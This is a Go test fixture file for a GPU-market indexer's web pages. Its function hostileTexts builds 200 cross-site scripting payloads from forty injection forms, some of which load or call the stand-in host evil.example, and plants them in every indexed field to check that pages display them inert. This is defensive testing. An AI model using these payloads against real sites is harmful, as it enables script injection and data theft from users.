//go:build web

package test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/gpuai/gpuai/escrow"
	"github.com/gpuai/gpuai/market"
	"github.com/gpuai/gpuai/node/indexer/db"
	"github.com/gpuai/gpuai/node/indexer/indextest"
)

const network = "localnet"

// filled is a market of a month, as an indexer that has listened for long knows it, and ids of what is in it.
func filled(t *testing.T, d *db.DB) map[string]string {
	t.Helper()
	now := time.Now()
	s, err := indextest.Fill(t.Context(), d, network, now)
	if err != nil {
		t.Fatal(err)
	}
	apply(t, d, now, db.Change{})
	ids := map[string]string{"slug": s.Model, "peer": s.Provider, "customer": s.Customer, "lease": s.Lease,
		"waiting": s.Waiting, "payer": s.Payer, "payout": s.Payee, "closing": s.Closing}
	leases, err := d.Leases(t.Context(), db.LeaseQuery{Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range leases {
		c, err := d.Channel(t.Context(), l.Channel)
		if err != nil {
			t.Fatal(err)
		}
		switch escrow.Status(c.Status) {
		case escrow.StatusOpen:
			ids["open"] = c.ID
		case escrow.StatusSealed:
			ids["sealed"] = c.ID
		case escrow.StatusGone:
			ids["gone"] = c.ID
		}
	}
	return ids
}

// apply writes a change, and of which ledger the index is: one of another would be begun anew.
func apply(t *testing.T, d *db.DB, now time.Time, c db.Change) {
	t.Helper()
	c.Meta = map[string]string{"genesis": genesis, "since": fmt.Sprint(now.AddDate(0, 0, -90).UnixMilli())}
	if _, err := d.Apply(t.Context(), now, c); err != nil {
		t.Fatal(err)
	}
	if _, err := d.Sum(t.Context(), now); err != nil {
		t.Fatal(err)
	}
}

// hostileTexts are 200 texts that a page must show and never obey: forty forms, five things each would do.
func hostileTexts() (out []string) {
	forms := []string{
		`<script>%s</script>`, `<img src=x onerror=%s>`, `<svg onload=%s>`, `<iframe srcdoc="<script>%s</script>">`,
		`<a href="javascript:%s">x</a>`, `<body onload=%s>`, `<input autofocus onfocus=%s>`,
		`<details open ontoggle=%s>`,
		`<video><source onerror=%s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=%s>`,
		`<marquee onstart=%s>`, `<object data="javascript:%s">`, `<embed src="javascript:%s">`,
		`<form action="javascript:%s"><input type=submit>`, `<base href="javascript:%s//">`,
		`<link rel=stylesheet href="javascript:%s">`, `<meta http-equiv=refresh content="0;javascript:%s">`,
		`<noscript><p title="</noscript><img src=x onerror=%s>">`, `<template><script>%s</script></template>`,
		`[x](javascript:%s)`, `{{constructor.constructor('%s')()}}`, "${%s}", `"><script>%s</script>`,
		`'><img src=x onerror=%s>`,
		`" onmouseover="%s`, `' autofocus onfocus='%s`, `javascript:%s`, `JaVaScRiPt:%s`, "java\tscript:%s",
		`data:text/html,<script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`,
		`<!--><script>%s</script>`, `]]><script>%s</script>`, `&lt;script&gt;%s&lt;/script&gt;`, `\u003cscript\u003e%s`,
		`<style>@import'javascript:%s'</style>`, `<xmp><p title="</xmp><svg/onload=%s>">`,
		"\u202e<svg/onload=%s>\u2066",
		`=HYPERLINK("javascript:%s")`,
	}
	acts := []string{"__hit=1", "alert(1)", "top['al'+'ert'](1)", "import('//evil.example')", "fetch('//evil.example')"}
	for _, f := range forms {
		for _, a := range acts {
			out = append(out, strings.Replace(f, "%s", a, 1))
		}
	}
	return out
}

// hostile writes each text into every field that a peer's documents or the chain fill, past the decoders that would
// refuse most of them. It returns the peers and leases that have them.
func hostile(t *testing.T, d *db.DB) (peers, leases []string) {
	t.Helper()
	now := time.Now()
	var c db.Change
	for i, text := range hostileTexts() {
		peer := market.NodeID{byte(i), byte(i >> 8), 7}.String()
		lease := market.LeaseID{byte(i), byte(i >> 8), 7}.String()
		channel := market.Address{byte(i), byte(i >> 8), 9}.String()
		peers, leases = append(peers, peer), append(leases, lease)
		at := now.Add(-time.Duration(i) * time.Second).UnixMilli()
		c.Rigs = append(c.Rigs, db.Rig{Peer: peer, Seq: at, Raw: []byte(text), Payout: text, Version: text,
			Country: text,
			Devices: 2, Free: 1, ExpiresAt: now.Add(time.Hour).UnixMilli(),
			Lots: []db.Lot{{Mint: db.SOLMint, Class: text,
				Name: text, Devices: 2, Free: 1, Rate: int64(1000 + i), VRAM: 1 << 30, Country: text, Payout: text,
				Lead: true,
				Head: true}}})
		c.Channels = append(c.Channels, db.Channel{ID: channel, Status: int64(escrow.StatusOpen), Payer: text,
			Payee: text,
			Mint:  text, Decimals: 9, Deposit: 10, Settled: 5, OpenedAt: now.Unix(), Slot: 5})
		c.Txs = append(c.Txs, db.Tx{Sig: text, Inner: -1, Slot: int64(i + 1), At: at, Result: db.TxOK, Name: text,
			Channel: channel, Authority: text})
		c.Leases = append(c.Leases, db.Lease{ID: lease, Accepted: at - 1000, Ready: at - 900, Ended: at,
			BillableMS: 900,
			Amount:     1, Code: text, Fault: 1, Outputs: text, ByProvider: []byte(text), ByCustomer: []byte(text),
			Deal: db.Deal{Class: text, Mint: db.SOLMint, Devices: 1, Rate: 10, Provider: peer, Customer: text,
				Channel: channel,
				Payer:   text, Payee: text}})
		c.Wants = append(c.Wants, db.Want{Customer: peer, Slot: 1, Seq: at, Classes: []string{text}, Devices: 1,
			Mint: db.SOLMint, Rate: 500, DurationSec: 60, Began: at, Until: now.Add(time.Hour).UnixMilli()})
	}
	apply(t, d, now, c)
	return peers, leases
}
